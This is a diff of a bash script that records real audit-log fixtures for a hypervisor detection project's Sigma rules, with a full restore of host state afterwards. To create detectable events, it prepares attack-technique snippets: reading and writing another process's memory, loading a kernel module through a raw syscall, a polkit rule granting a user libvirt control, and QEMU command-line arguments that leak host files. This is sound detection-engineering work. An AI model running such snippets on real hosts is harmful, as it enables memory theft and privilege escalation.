@@ -1,41 +1,49 @@
 #!/usr/bin/env bash
-# Records the real audit logs that prove hv's own Sigma rules (rules/hv/*.yml) and the SigmaHQ
-# attack/benign sessions:
+# Records the real audit logs behind hv's own Sigma rules (rules/hv/*.yml) and SigmaHQ's sessions:
 #
-#   sudo scripts/record-hv-rule-fixtures.sh [SCENARIO...]
+#   sudo scripts/record-hv-rule-fixtures.sh [--rulesets hv,neo23x0,stig] [--takes a,b,benign] [NAME...]
 #
-#   test/fixtures/audit/hv/NAME.log          one scenario per file (NAME = a function scn_NAME below)
-#   test/fixtures/audit/attack-session.log   attack steps, each preceded by a marker `/bin/true hv-step-N`
-#   test/fixtures/audit/benign-session.log   a long, ordinary admin session on a hypervisor host
+#   test/fixtures/audit/hv/RULESET/TAKE/NAME.log  one technique (or benign family) under one audit ruleset
+#   test/fixtures/audit/hv/recordings.tsv         per recording: ruleset, take, name, actor, lines
+#   test/fixtures/audit/attack-session.log        SigmaHQ attack steps (name attack-session; ruleset hv only)
+#   test/fixtures/audit/benign-session.log        an ordinary admin morning (name benign-session; ruleset hv only)
 #
-# With SCENARIO names, only those are recorded (attack-session and benign-session are names too).
+# NAME is a technique or a benign family of scripts/hv-rule-scenarios.sh (which says what each take
+# does and as whom); without names, every technique and family is recorded (the two sessions only
+# when named). One run re-records everything: about 20 minutes. Hold the host-wide lock:
 #
-# Needs root, Debian 12, no systemd. It apt-get installs what it uses (auditd, qemu-system-x86,
-# qemu-utils, libvirt-daemon-system, libvirt-clients, nftables, iptables, strace, gdb, kmod,
-# iproute2, rsync, socat, netcat-openbsd, qemu-guest-agent, sqlite3), starts a private auditd by hand
-# (`auditd -n -c DIR`, a copy of /etc/audit/auditd.conf with its own log file and no plugins; the pid
-# file is the one test/helpers/auditd.ts uses, /tmp/hv-test-auditd.pid), loads rules/audit/hv.rules
-# with `auditctl -R`, and starts libvirtd/virtlogd unless they already run.
+#   flock /tmp/hv-system.lock bash scripts/record-hv-rule-fixtures.sh
 #
-# How a scenario's events are told apart from the rest of a noisy host: each scenario runs in a
-# subshell that first writes its login uid (/proc/self/loginuid, as pam_loginuid does at login).
-# The kernel then gives it a fresh audit session id (ses=), inherited by every descendant (qemu,
-# the scripts qemu runs, …), and the fixture keeps exactly the events with a record saying ses=N.
-# The login uid is 0 (root logged in) unless the scenario is about an unexpected user: then it is
-# the uid of the local user `hvop`, i.e. "hvop logged in and became root", as after `sudo -i`.
+# The audit rulesets, each loaded alone (auditctl -D first), as a host would have them:
+#   hv       rules/audit/hv.rules (with -b 8192 --backlog_wait_time 60000, as it recommends)
+#   neo23x0  ../shared/data/audit-rulesets/neo23x0-audit.rules (Florian Roth's best-practice set)
+#   stig     Debian's examples 10-base-config.rules + 30-stig.rules (/usr/share/doc/auditd/examples/rules);
+#            STIG watches /etc/NetworkManager/, which must exist for the rest of the file to load:
+#            it is created for the recording when missing, and removed afterwards.
 #
-# Everything is REAL: the commands below really run and the kernel really audits them. Where the
-# machine cannot do the real thing (no KVM hardware, no kernel modules, no guest agent in a guest),
-# the closest real attempt is made and the fixture README says so. Network activity goes only to
-# 127.0.0.1 and 192.0.2.0/24 (TEST-NET-1, unreachable); netfilter, bridge, tap and sysctl changes
-# are made inside a private network namespace (hvfx-rec) that is deleted afterwards.
+# Needs root, Debian 12, no systemd; the packages .ci/run installs (it says why each). It starts a
+# private auditd by hand (`auditd -n -c DIR`: a copy of /etc/audit/auditd.conf with its own log and
+# no plugins; pid file /tmp/hv-rule-fixtures-auditd.pid) and uses the running libvirtd
+# (qemu:///system), starting libvirtd/virtlogd only if none runs.
 #
-# State is put back: hv's audit rules are deleted one by one (rules the host had are untouched),
-# auditd is stopped, the kernel's `enabled` flag is restored, qemu.conf and the qemu binary are
-# restored (the binary is only rewritten with identical bytes), test users/domains/secrets/files
-# are removed, and libvirtd/virtlogd are stopped if this script started them.
+# What a recording keeps of a noisy host: each scenario runs in a subshell that first writes its
+# login uid (/proc/self/loginuid, as pam_loginuid does at login). The kernel gives it a fresh audit
+# session id (ses=), inherited by every descendant; the recording keeps the events with a record
+# saying ses=N, and from the scenario's time window also what libvirtd did (records of libvirtd's pid
+# and its children: VIRT_* records, its iptables runs), what the qemu processes of hvfx-* guests did,
+# and the NETFILTER_CFG records the kernel writes without a session. Nothing else.
+#
+# Everything is REAL: the commands really run and the kernel really audits them. Where the machine
+# cannot do the real thing (no KVM, no kernel modules, no guest agent in a guest, no PCI device to
+# hand over), the closest real attempt is made; test/fixtures/audit/hv/README.md says which.
+#
+# State is put back: the audit rules the kernel had before are loaded again (and its backlog
+# settings), auditd is stopped, the kernel's enabled flag restored, every file changed is
+# restored, the hvfx-* guests, network, pool, secret, users and loop device are removed, and
+# libvirtd/virtlogd are stopped if this script started them.
 
 set -euo pipefail
+trap 'echo "record-hv-rule-fixtures.sh: line $LINENO failed: $BASH_COMMAND" >&2' ERR
 # A plain system PATH: no pyenv/nvm shims (they exec env, readlink, … and fill the fixtures).
 export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
 [[ $(id -u) -eq 0 ]] || { echo "must run as root" >&2; exit 1; }
@@ -43,56 +51,73 @@ export PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin
 ROOT=$(realpath "$(dirname "$0")/..")
 OUT="$ROOT/test/fixtures/audit/hv"
 SESSIONS="$ROOT/test/fixtures/audit"
-RULES="$ROOT/rules/audit/hv.rules"
-PIDFILE="${TMPDIR:-/tmp}/hv-test-auditd.pid"
-mkdir -p "$OUT"
+# Not test/helpers/auditd.ts's pid file: that helper kills the auditd named there, and a test run
+# without the lock would end this recording halfway (it happened; it now fails that test instead).
+PIDFILE="${TMPDIR:-/tmp}/hv-rule-fixtures-auditd.pid"
+SHARED_RULESETS="$ROOT/../shared/data/audit-rulesets"
+[[ -d $SHARED_RULESETS ]] || SHARED_RULESETS=/work/shared/data/audit-rulesets
+EXAMPLES=/usr/share/doc/auditd/examples/rules
+NETNS=hvfx-rec
+PCIDEV=0000:00:05.0
+
+RULESETS=(hv neo23x0 stig)
+TAKES=(a b benign)
+WANT=()
+while (($#)); do
+  case $1 in
+    --rulesets) IFS=, read -r -a RULESETS <<< "$2"; shift 2 ;;
+    --takes) IFS=, read -r -a TAKES <<< "$2"; shift 2 ;;
+    -h|--help) sed -n '2,45p' "$0"; exit 0 ;;
+    *) WANT+=("$1"); shift ;;
+  esac
+done
+
+# shellcheck source=scripts/hv-rule-scenarios.sh
+source "$ROOT/scripts/hv-rule-scenarios.sh"
+wanted() { ((${#WANT[@]} == 0)) || [[ " ${WANT[*]} " == *" $1 "* ]]; }
 
 PKGS=(auditd qemu-system-x86 qemu-utils libvirt-daemon-system libvirt-clients dnsmasq-base nftables iptables
-  strace gdb kmod iproute2 rsync socat netcat-openbsd ncat qemu-guest-agent sqlite3 openssh-client curl procps)
+  strace gdb kmod iproute2 rsync socat ncat qemu-guest-agent sqlite3 openssh-client curl procps tcpdump util-linux python3 perl)
 missing=()
 for p in "${PKGS[@]}"; do dpkg-query -W -f='${Status}' "$p" 2>/dev/null | grep -q 'ok installed' || missing+=("$p"); done
-if ((${#missing[@]})); then DEBIAN_FRONTEND=noninteractive apt-get install -y "${missing[@]}" >/dev/null; fi
+if ((${#missing[@]})); then echo "missing Debian packages: ${missing[*]} (bash .ci/run and bash scripts/install-recording-tools.sh install them)" >&2; exit 1; fi
+[[ -f $SHARED_RULESETS/neo23x0-audit.rules ]] || { echo "no $SHARED_RULESETS/neo23x0-audit.rules" >&2; exit 1; }
 
 WORK=$(mktemp -d /tmp/hv-rule-fixtures.XXXXXX)
 chmod 755 "$WORK"
-IMG=/var/lib/libvirt/images/vm1.qcow2
-NETNS=hvfx-rec
 kernel_field() { auditctl -s | awk -v f="$1" '$1 == f { print $2 }'; }
 ENABLED_BEFORE=$(kernel_field enabled)
+BACKLOG_BEFORE=$(kernel_field backlog_limit)
+BACKLOG_WAIT_BEFORE=$(kernel_field backlog_wait_time)
+# The rules the kernel had before: put back at the end, even when the recording fails halfway.
+auditctl -l > "$WORK/rules.before"
 AUDITD_PID=
-RULES_LOADED=0
-STARTED_LIBVIRTD=()
+STARTED_DAEMONS=()
 CREATED=()
-
-delete_hv_rules() {
-  ((RULES_LOADED)) || return 0
-  # The delete form of each line of hv.rules: -w → -W, -a → -d (same arguments).
-  local line
-  while IFS= read -r line; do
-    [[ $line =~ ^-(w|a)\  ]] || continue
-    if [[ $line == -w* ]]; then line="-W${line:2}"; else line="-d${line:2}"; fi
-    # shellcheck disable=SC2086 # the words of the rule, as written in the file
-    auditctl $line >/dev/null 2>&1 || true
-  done < "$RULES"
-  RULES_LOADED=0
-}
-load_hv_rules() { auditctl -R "$RULES" >/dev/null; RULES_LOADED=1; }
+LOOPDEV=
+CURRENT_RULESET=
 
 cleanup() {
   set +e
-  delete_hv_rules
+  auditctl -D >/dev/null 2>&1
+  grep -qx 'No rules' "$WORK/rules.before" || auditctl -R "$WORK/rules.before" >/dev/null
+  auditctl -b "$BACKLOG_BEFORE" >/dev/null 2>&1; auditctl --backlog_wait_time "$BACKLOG_WAIT_BEFORE" >/dev/null 2>&1
   if [[ -n $AUDITD_PID ]]; then kill -TERM "$AUDITD_PID" 2>/dev/null; wait "$AUDITD_PID" 2>/dev/null; rm -f "$PIDFILE"; fi
   [[ $ENABLED_BEFORE != 2 && $(kernel_field enabled) != "$ENABLED_BEFORE" ]] && auditctl -e "$ENABLED_BEFORE" >/dev/null
-  [[ -f $WORK/qemu.conf.orig ]] && cat "$WORK/qemu.conf.orig" > /etc/libvirt/qemu.conf
-  virsh -q -c qemu:///system undefine vm1 >/dev/null 2>&1
-  [[ -s $WORK/secret.uuid ]] && virsh -q -c qemu:///system secret-undefine "$(cat "$WORK/secret.uuid")" >/dev/null 2>&1
-  for pid in "${STARTED_LIBVIRTD[@]}"; do kill -TERM "$pid" 2>/dev/null; done
+  for f in qemu.conf libvirtd.conf; do [[ -f $WORK/$f.orig ]] && cat "$WORK/$f.orig" > "/etc/libvirt/$f"; done
+  [[ -f $WORK/override.orig ]] && cat "$WORK/override.orig" > "/sys/bus/pci/devices/$PCIDEV/driver_override" 2>/dev/null
+  for d in hvfx-vm1 hvfx-vm2 hvfx-cmd hvfx-tmp hvfx-pt; do V destroy "$d" >/dev/null 2>&1; V undefine "$d" --snapshots-metadata >/dev/null 2>&1; done
+  V net-destroy hvfx-net >/dev/null 2>&1; V net-undefine hvfx-net >/dev/null 2>&1
+  V pool-destroy hvfx-pool >/dev/null 2>&1; V pool-undefine hvfx-pool >/dev/null 2>&1
+  [[ -s $WORK/secret.uuid ]] && V secret-undefine "$(cat "$WORK/secret.uuid")" >/dev/null 2>&1
+  [[ -n $LOOPDEV ]] && losetup -d "$LOOPDEV"
+  for pid in "${STARTED_DAEMONS[@]}"; do kill -TERM "$pid" 2>/dev/null; done
   ip netns del "$NETNS" 2>/dev/null
-  rm -f "$IMG" /var/lib/libvirt/qemu/dump/hv-fixture-* /usr/share/qemu/hv-fixture-*
+  post_hook_script; post_polkit; post_vm_disk_read
+  rm -f "$IMG" "$DATA" /var/lib/libvirt/images/hvfx-* /var/lib/libvirt/qemu/dump/hvfx-* /var/lib/libvirt/qemu/hvfx-* /usr/share/qemu/hvfx-* /usr/share/seabios/hvfx-*
+  rm -rf /var/lib/libvirt/hvfx
   for d in "${CREATED[@]}"; do rm -rf "$d"; done
-  id hvop >/dev/null 2>&1 && userdel hvop 2>/dev/null
-  id hvfxbackdoor >/dev/null 2>&1 && userdel -r hvfxbackdoor 2>/dev/null
-  id hvadmin >/dev/null 2>&1 && userdel -r hvadmin 2>/dev/null
+  for u in hvop hvop2 hvadmin hvfxnew; do id "$u" >/dev/null 2>&1 && userdel -r "$u" >/dev/null 2>&1; done
   rm -rf "$WORK"
 }
 trap cleanup EXIT
@@ -104,70 +129,132 @@ if [[ -s $PIDFILE ]] && [[ $(cat "/proc/$(cat "$PIDFILE")/comm" 2>/dev/null) == 
 other=$(kernel_field pid)
 if [[ $other != 0 ]] && kill -0 "$other" 2>/dev/null; then echo "another auditd (pid $other) is running; not touching it" >&2; exit 1; fi
 
-id hvop >/dev/null 2>&1 || useradd -M -s /usr/sbin/nologin hvop
+for u in hvop hvop2; do id "$u" >/dev/null 2>&1 || useradd -m -s /bin/bash -G libvirt "$u"; done
 id hvadmin >/dev/null 2>&1 || useradd -m -s /bin/bash hvadmin
-HVOP_UID=$(id -u hvop)
-HVADMIN_UID=$(id -u hvadmin)
-for d in /var/lib/hv /etc/hv; do [[ -e $d ]] || { mkdir -p "$d"; CREATED+=("$d"); }; done
-mkdir -p /var/lib/libvirt/images /var/lib/libvirt/qemu/dump /etc/libvirt/secrets /run/libvirt
+declare -A LOGIN=([root]=0 [sudo]="$(id -u hvop)" [user]="$(id -u hvop)" [user2]="$(id -u hvop2)" [admin]="$(id -u hvadmin)")
+for d in /var/lib/hv /etc/hv /etc/NetworkManager; do [[ -e $d ]] || { mkdir -p "$d"; CREATED+=("$d"); }; done
+mkdir -p /var/lib/libvirt/images /var/lib/libvirt/qemu/dump /etc/libvirt/secrets /etc/libvirt/hooks /run/libvirt /var/lib/libvirt/hvfx
 chmod 700 /etc/libvirt/secrets
 cp /etc/libvirt/qemu.conf "$WORK/qemu.conf.orig"
+cp /etc/libvirt/libvirtd.conf "$WORK/libvirtd.conf.orig"
+cat "/sys/bus/pci/devices/$PCIDEV/driver_override" > "$WORK/override.orig" 2>/dev/null || true
+[[ $(cat "$WORK/override.orig") == "(null)" ]] && echo > "$WORK/override.orig"
 
 # -d daemonizes: the daemon's pid is in its pid file once it is up.
 if ! pgrep -x virtlogd >/dev/null; then
   virtlogd -d
   for _ in $(seq 50); do [[ -s /run/virtlogd.pid ]] && break; sleep 0.1; done
-  STARTED_LIBVIRTD+=("$(cat /run/virtlogd.pid)")
+  STARTED_DAEMONS+=("$(cat /run/virtlogd.pid)")
 fi
-if ! pgrep -x libvirtd >/dev/null; then
+# A libvirtd that answers and has its pid file; one another test is just stopping or starting gets
+# a few seconds to settle first.
+libvirt_up() { virsh -q -c qemu:///system version >/dev/null 2>&1 && [[ -s /run/libvirtd.pid ]] && kill -0 "$(cat /run/libvirtd.pid)" 2>/dev/null; }
+for _ in $(seq 50); do libvirt_up && break; sleep 0.2; done
+if ! libvirt_up; then
+  pgrep -x libvirtd >/dev/null && { echo "a libvirtd runs but does not answer on qemu:///system" >&2; exit 1; }
   rm -f /run/libvirt/libvirt-sock
   libvirtd -d
-  for _ in $(seq 100); do [[ -S /run/libvirt/libvirt-sock && -s /run/libvirtd.pid ]] && break; sleep 0.1; done
-  STARTED_LIBVIRTD+=("$(cat /run/libvirtd.pid)")
+  for _ in $(seq 100); do libvirt_up && break; sleep 0.1; done
+  libvirt_up || { echo "libvirtd did not come up" >&2; exit 1; }
+  STARTED_DAEMONS+=("$(cat /run/libvirtd.pid)")
 fi
+LIBVIRTD_PID=$(cat /run/libvirtd.pid)
 
+# The guests: hvfx-vm1 (started when a scenario needs it), hvfx-vm2 (defined, for edits and
+# snapshots), a pool on the image directory, an isolated network, a secret; the kernel and initrd
+# of the test guest (scripts/build-test-guest.sh) boot them.
+GUEST=${HV_TEST_GUEST_DIR:-/var/cache/hv-test-guest/out}
+[[ -f $GUEST/vmlinuz ]] || { echo "no test guest in $GUEST: run scripts/build-test-guest.sh $GUEST" >&2; exit 1; }
+cp "$GUEST/vmlinuz" "$GUEST/initrd.img" /var/lib/libvirt/hvfx/
 qemu-img create -q -f qcow2 "$IMG" 64M
-cat > "$WORK/vm1.xml" <<EOF
-<domain type='qemu'>
-  <name>vm1</name>
+qemu-img create -q -f qcow2 "$DATA" 64M
+# Each definition has a fixed uuid: defining the same file again then updates the domain (without
+# one, libvirt makes up a new uuid and refuses: "already exists with uuid …").
+domain_xml() { # NAME DISK [EXTRA-XML]
+  cat <<EOF
+<domain type='qemu' xmlns:qemu='http://libvirt.org/schemas/domain/qemu/1.0'>
+  <name>$1</name>
+  <uuid>$(cat /proc/sys/kernel/random/uuid)</uuid>
   <memory unit='KiB'>131072</memory>
-  <vcpu>1</vcpu>
-  <os><type arch='x86_64' machine='pc'>hvm</type></os>
+  <vcpu placement='static'>1</vcpu>
+  <os><type arch='x86_64' machine='pc'>hvm</type><kernel>/var/lib/libvirt/hvfx/vmlinuz</kernel><initrd>/var/lib/libvirt/hvfx/initrd.img</initrd><cmdline>console=ttyS0 panic=-1</cmdline></os>
   <devices>
     <emulator>/usr/bin/qemu-system-x86_64</emulator>
-    <disk type='file' device='disk'><driver name='qemu' type='qcow2'/><source file='$IMG'/><target dev='vda' bus='virtio'/></disk>
+    <disk type='file' device='disk'><driver name='qemu' type='qcow2'/><source file='$2'/><target dev='vda' bus='virtio'/></disk>
+    <serial type='pty'/>
     <graphics type='vnc' port='-1' listen='127.0.0.1'/>
   </devices>
+${3:-}
 </domain>
 EOF
-virsh -q -c qemu:///system undefine vm1 >/dev/null 2>&1 || true
-virsh -q -c qemu:///system define "$WORK/vm1.xml" >/dev/null
+}
+qemu-img create -q -f qcow2 /var/lib/libvirt/images/hvfx-vm2.qcow2 64M
+domain_xml hvfx-vm1 "$IMG" > "$WORK/vm1.xml"
+domain_xml hvfx-vm2 /var/lib/libvirt/images/hvfx-vm2.qcow2 > "$WORK/vm2.xml"
+domain_xml hvfx-tmp /var/lib/libvirt/images/hvfx-vm2.qcow2 > "$WORK/tmp.xml"
+domain_xml hvfx-pt /var/lib/libvirt/images/hvfx-vm2.qcow2 > "$WORK/pt.xml"
+domain_xml hvfx-cmd /var/lib/libvirt/images/hvfx-vm2.qcow2 "<qemu:commandline><qemu:arg value='-chardev'/><qemu:arg value='file,id=hvfxleak,path=/tmp/hvfx-leak.txt'/></qemu:commandline>" > "$WORK/cmdline-a.xml"
+domain_xml hvfx-cmd /var/lib/libvirt/images/hvfx-vm2.qcow2 "<qemu:commandline><qemu:arg value='-fw_cfg'/><qemu:arg value='name=opt/hvfx,file=/etc/hostname'/></qemu:commandline>" > "$WORK/cmdline-b.xml"
+for d in hvfx-vm1 hvfx-vm2 hvfx-cmd hvfx-tmp hvfx-pt; do V destroy "$d" >/dev/null 2>&1 || true; V undefine "$d" --snapshots-metadata >/dev/null 2>&1 || true; done
+V define "$WORK/vm1.xml" >/dev/null
+V define "$WORK/vm2.xml" >/dev/null
+printf "<filesystem type='mount' accessmode='passthrough'><source dir='/srv/hvfx-share'/><target dir='hostshare'/></filesystem>\n" > "$WORK/fs.xml"
+[[ -e /srv/hvfx-share ]] || { mkdir -p /srv/hvfx-share; CREATED+=(/srv/hvfx-share); }
+printf "<network><name>hvfx-net</name><uuid>%s</uuid><bridge name='hvfxbr0'/><ip address='10.77.0.1' netmask='255.255.255.0'/></network>\n" "$(cat /proc/sys/kernel/random/uuid)" > "$WORK/net.xml"
+sed 's|</network>|<domain name="hvfx.example"/></network>|' "$WORK/net.xml" > "$WORK/net-edited.xml"
+V net-destroy hvfx-net >/dev/null 2>&1 || true; V net-undefine hvfx-net >/dev/null 2>&1 || true
+V net-define "$WORK/net.xml" >/dev/null
+V pool-destroy hvfx-pool >/dev/null 2>&1 || true; V pool-undefine hvfx-pool >/dev/null 2>&1 || true
+# Persistent and autostarted: a libvirtd restarted halfway (see daemons_up) still has it.
+V pool-define-as hvfx-pool dir --target /var/lib/libvirt/images >/dev/null
+V pool-autostart hvfx-pool >/dev/null
+V pool-start hvfx-pool >/dev/null
 cat > "$WORK/secret.xml" <<EOF
-<secret ephemeral='no' private='no'><description>hv fixture: LUKS passphrase of vm1</description><usage type='volume'><volume>$IMG</volume></usage></secret>
+<secret ephemeral='no' private='no'><description>hv fixture: LUKS passphrase of hvfx-vm1</description><usage type='volume'><volume>$IMG</volume></usage></secret>
 EOF
-for u in $(virsh -q -c qemu:///system secret-list | awk -v img="$IMG" '$0 ~ img { print $1 }'); do virsh -q -c qemu:///system secret-undefine "$u" >/dev/null; done
+for u in $(V secret-list | awk -v img="$IMG" '$0 ~ img { print $1 }'); do V secret-undefine "$u" >/dev/null; done
 virsh -c qemu:///system secret-define "$WORK/secret.xml" | grep -Eo '[0-9a-f-]{36}' > "$WORK/secret.uuid"
-virsh -q -c qemu:///system secret-set-value "$(cat "$WORK/secret.uuid")" --base64 "$(printf 'correct horse battery' | base64)" >/dev/null 2>&1 || true
+V secret-set-value "$(cat "$WORK/secret.uuid")" --base64 "$(printf 'correct horse battery' | base64)" >/dev/null 2>&1 || true
+qemu-img create -q -f raw "$WORK/loop.img" 8M
+LOOPDEV=$(losetup -f --show "$WORK/loop.img")
 
+ip netns del "$NETNS" 2>/dev/null || true
 ip netns add "$NETNS"
 printf '#!/bin/sh\n# a tap "ifup" script, as qemu -netdev tap,script= runs it\nid >/dev/null\nexit 0\n' > "$WORK/ifup.sh"
-chmod 755 "$WORK/ifup.sh"
+printf '#!/bin/bash\n# the same in bash\nid >/dev/null\n' > "$WORK/ifup.bash"
+printf '#!/bin/sh\n# a libvirt hook\nexit 0\n' > "$WORK/hook.sh"
+chmod 755 "$WORK/ifup.sh" "$WORK/ifup.bash" "$WORK/hook.sh"
 printf 'not an ELF module\n' > "$WORK/hv_fixture.ko"
+head -c 4096 /dev/zero > "$WORK/fake-OVMF_VARS.fd"
+printf 'rules: []\nenabled: true\n' > "$WORK/hv.yaml"
+printf 'table ip libvirt_network {\n  chain guest_output { type filter hook forward priority 0; policy accept; }\n}\n' > "$WORK/libvirt.nft"
+printf 'polkit.addRule(function(action, subject) {\n  if (action.id == "org.libvirt.unix.manage" && subject.user == "hvop") return polkit.Result.YES;\n});\n' > "$WORK/polkit.rules"
+printf '[hvfx]\nIdentity=unix-user:hvop\nAction=org.libvirt.unix.manage\nResultAny=yes\n' > "$WORK/hvfx.pkla"
 cat > "$WORK/vmread.py" <<'EOF'
-# process_vm_readv(2) on another process: reads 64 bytes at the start of its first readable mapping.
+# process_vm_readv(2) on another process: 64 bytes at the start of its first readable mapping;
+# with "write-back", process_vm_writev(2) puts the same bytes back (nothing changes).
 import ctypes, sys
 pid = int(sys.argv[1])
-start = next(int(l.split("-")[0], 16) for l in open(f"/proc/{pid}/maps") if l.split()[1].startswith("r"))
+start = next(int(l.split("-")[0], 16) for l in open(f"/proc/{pid}/maps") if l.split()[1].startswith("rw"))
 class iovec(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
 buf = ctypes.create_string_buffer(64)
 local, remote = iovec(ctypes.cast(buf, ctypes.c_void_p), 64), iovec(start, 64)
 libc = ctypes.CDLL(None, use_errno=True)
 n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
-print(n, ctypes.get_errno())
+print("read", n, ctypes.get_errno())
+if len(sys.argv) > 2 and n == 64:
+    print("wrote", libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0), ctypes.get_errno())
+EOF
+cat > "$WORK/finit.py" <<'EOF'
+# finit_module(2) on a file, as insmod does (x86_64 syscall 313).
+import ctypes, os, sys
+libc = ctypes.CDLL(None, use_errno=True)
+fd = os.open(sys.argv[1], os.O_RDONLY)
+print(libc.syscall(313, fd, b"", 0), ctypes.get_errno())
 EOF
 
 # ---------------------------------------------------------------------------------------------
-# auditd
+# auditd and the rulesets
 
 DIR="$WORK/auditd"
 mkdir -p "$DIR/plugins.d"
@@ -190,195 +277,155 @@ AUDITD_PID=$!
 echo "$AUDITD_PID" > "$PIDFILE"
 for _ in $(seq 100); do [[ $(kernel_field pid) == "$AUDITD_PID" && -s $LOG ]] && break; sleep 0.1; done
 [[ $(kernel_field pid) == "$AUDITD_PID" ]] || { echo "auditd did not come up" >&2; exit 1; }
-load_hv_rules
 
-# filter_ses LOG SES: every record of the events one of whose records says ses=SES, in log order.
-filter_ses() {
-  awk -v ses="$2" '
-    function id(line) { return match(line, /msg=audit\([0-9.]+:[0-9]+\)/) ? substr(line, RSTART, RLENGTH) : "" }
-    NR == FNR { if ($0 ~ ("[ ]ses=" ses "([ \035]|$)")) keep[id($0)] = 1; next }
-    keep[id($0)]
-  ' "$1" "$1"
+load_ruleset() {
+  CURRENT_RULESET=$1
+  auditctl -D >/dev/null
+  case $1 in
+    # -i (a line of its own): a line the kernel refuses is reported and the rest still loads
+    hv) auditctl -b 8192 >/dev/null; auditctl --backlog_wait_time 60000 >/dev/null
+        { echo -i; cat "$ROOT/rules/audit/hv.rules"; } > "$WORK/hv.rules"
+        auditctl -R "$WORK/hv.rules" 2>&1 >/dev/null | sed 's/^/  auditctl: /' >&2 || true ;;
+    neo23x0) auditctl -R "$SHARED_RULESETS/neo23x0-audit.rules" >/dev/null 2>&1 || true ;;   # it has -i: lines for absent paths are skipped
+    stig) auditctl -R "$EXAMPLES/10-base-config.rules" >/dev/null; auditctl -R "$EXAMPLES/30-stig.rules" >/dev/null ;;
+    *) echo "unknown ruleset $1" >&2; exit 1 ;;
+  esac
+  [[ $(kernel_field enabled) == 1 ]] || auditctl -e 1 >/dev/null
+  printf '%s: %d rules loaded\n' "$1" "$(auditctl -l | grep -c .)"
 }
 
-# run NAME AUID FUNC OUTFILE: FUNC in a subshell logged in as AUID (fresh audit session).
+# keep LOG OFFSET SES T0 T1 PIDS: from byte OFFSET of the log on, the events of session SES, and in
+# [T0, T1] those of the given pids (libvirtd, the hvfx guests' qemu) and their children, and the
+# NETFILTER_CFG records the kernel writes without a session.
+keep() {
+  python3 - "$@" <<'EOF'
+import re, sys
+log, offset, ses, t0, t1, pids = sys.argv[1], int(sys.argv[2]), sys.argv[3], float(sys.argv[4]), float(sys.argv[5]), set(sys.argv[6].split())
+stamp = re.compile(r"msg=audit\((\d+\.\d+):(\d+)\)")
+field = lambda name, line: (re.search(r"(?:^|[ '])" + name + r"=(\S+)", line) or [None, None])[1]
+with open(log, "rb") as f:
+    f.seek(offset)
+    lines = f.read().decode("utf-8", errors="surrogateescape").split("\n")
+keep = set()
+for line in lines:
+    m = stamp.search(line)
+    if not m: continue
+    if field("ses", line) == ses: keep.add(m.group(0)); continue
+    t = float(m.group(1))
+    if not (t0 <= t <= t1): continue
+    if field("pid", line) in pids or field("ppid", line) in pids: keep.add(m.group(0))
+    elif line.startswith("type=NETFILTER_CFG") and field("ses", line) is None: keep.add(m.group(0))
+out = [l for l in lines if (m := stamp.search(l)) and m.group(0) in keep]
+sys.stdout.write("".join(l + "\n" for l in out))
+EOF
+}
+
+# run NAME ACTOR FUNC OUTFILE: FUNC in a subshell logged in as ACTOR (a fresh audit session).
+# Something else on the host stopping auditd or libvirtd (a test run without the lock) must not
+# leave recordings silently empty: auditd gone ends the run; libvirtd gone is started again (its
+# guests, network, pool and secret are persistent) and the scenario it spoiled is recorded again.
+daemons_up() {
+  [[ $(kernel_field pid) == "$AUDITD_PID" ]] || { echo "auditd ($AUDITD_PID) is no longer the kernel's audit daemon $1: recordings from here on would be empty" >&2; exit 1; }
+  kill -0 "$LIBVIRTD_PID" 2>/dev/null && return 0
+  echo "libvirtd ($LIBVIRTD_PID) was stopped by something else $1: starting it again" >&2
+  for _ in $(seq 50); do libvirt_up && break; sleep 0.2; done
+  if ! libvirt_up; then
+    rm -f /run/libvirt/libvirt-sock
+    libvirtd -d
+    for _ in $(seq 100); do libvirt_up && break; sleep 0.1; done
+    libvirt_up || { echo "libvirtd did not come up" >&2; exit 1; }
+    STARTED_DAEMONS+=("$(cat /run/libvirtd.pid)")
+  fi
+  LIBVIRTD_PID=$(cat /run/libvirtd.pid)
+  return 1
+}
+
 run() {
-  local name=$1 auid=$2 fn=$3 out=$4 ses sub
+  local name=$1 actor=$2 fn=$3 out=$4 ses t0 t1 pids offset
+  daemons_up "before $name" || true
+  offset=$(stat -c %s "$LOG")
+  t0=$(date +%s.%N)
   (
-    echo "$auid" > /proc/self/loginuid
+    echo "${LOGIN[$actor]}" > /proc/self/loginuid
     read -r s < "/proc/$BASHPID/sessionid" || true
     echo "$s" > "$WORK/ses.$name"
     cd "$WORK"
     "$fn" || true
     true
   ) </dev/null >"$WORK/$name.out" 2>&1 &
-  sub=$!
-  wait "$sub" || true
+  wait $! || true
   sleep 0.7
+  t1=$(date +%s.%N)
   [[ -s $WORK/ses.$name ]] || { echo "$name: the scenario did not start:" >&2; cat "$WORK/$name.out" >&2; return 1; }
   ses=$(cat "$WORK/ses.$name")
-  filter_ses "$LOG" "$ses" > "$out"
-  printf '%-28s ses=%-4s %5d lines\n' "$name" "$ses" "$(wc -l < "$out")"
+  daemons_up "during $name" || return 2
+  pids="$LIBVIRTD_PID $(sort -u "$WORK/qemu.pids" 2>/dev/null | tr '\n' ' ')"
+  mkdir -p "$(dirname "$out")"
+  keep "$LOG" "$offset" "$ses" "$t0" "$t1" "$pids" > "$out"
+  printf '  %-22s %-6s ses=%-5s %6d lines\n' "$name" "$actor" "$ses" "$(wc -l < "$out")"
 }
 
-qemu_idle() { qemu-system-x86_64 -machine none -nodefaults -display none -monitor none -serial none -S "$@" & QPID=$!; sleep 0.6; }
-in_ns() { ip netns exec "$NETNS" "$@"; }
+# The qemu pids of the hvfx guests, noted while they run (a guest stopped in the scenario is gone by
+# the time the recording is cut).
+# (Builtins only: under hv's rules every program start of this loop would be recorded.)
+note_qemu_pids() {
+  local f p tick
+  mkfifo "$WORK/tick"
+  exec {tick}<>"$WORK/tick"   # a fifo nobody writes to: read -t on it is a sleep without a program
+  while :; do
+    # (libvirt writes the pid without a newline: read would say "end of file")
+    for f in /run/libvirt/qemu/hvfx-*.pid; do if [[ -f $f ]] && p=$(<"$f") && [[ -n $p ]]; then echo "$p"; fi; done >> "$WORK/qemu.pids"
+    read -rt 0.2 -u "$tick" || true
+  done
+}
